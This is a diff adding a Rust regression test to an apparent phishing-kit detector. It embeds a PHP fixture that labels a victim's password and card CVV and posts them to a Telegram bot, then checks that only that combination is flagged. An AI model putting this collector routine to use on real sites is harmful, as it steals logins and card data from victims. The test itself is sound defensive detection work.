@@ -701,3 +701,21 @@ fn a_card_pin_or_a_texted_code_sent_to_a_chat_bot_is_collected() {
     let order = pin.replace("['pin']", "['pin_code']").replace("'pin: '", "'Pin code: '");
     assert!(found(&order).is_empty(), "{:?}", found(&order));
 }
+
+#[test]
+fn a_library_labelling_passwords_and_card_codes_for_a_chat_bot_is_a_collector() {
+    // Regression: fresh115's `file_storage.php` builds each step's message from what the
+    // kit's pages hand it and sends it to Telegram.
+    let library = "<?php function notify($data) { switch ($data['step']) {\n\
+                   case 'login': $message = \"🔐 New Login\\n\" . \"🔑 Password: \" . ($data['pw'] ?? 'N/A') . \"\\n\"; break;\n\
+                   case 'card': $message = \"💳 Card\\n\" . \"🔢 CVV: \" . ($data['sec'] ?? 'N/A') . \"\\n\"; break; }\n\
+                   $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, \"https://api.telegram.org/bot\" . TOKEN . \"/sendMessage\");\n\
+                   curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(['text' => $message])); curl_exec($ch); }";
+    assert_eq!(found(library), [Why::CredentialCollector]);
+    // A shop's order notice to its own bot labels no secret.
+    let orders = library.replace("Password: ", "Order: ").replace("CVV: ", "Total: ");
+    assert!(found(&orders).is_empty(), "{:?}", found(&orders));
+    // One kind of secret alone is the other rules' to judge.
+    let one = library.replace("CVV: ", "Total: ");
+    assert!(found(&one).is_empty(), "{:?}", found(&one));
+}
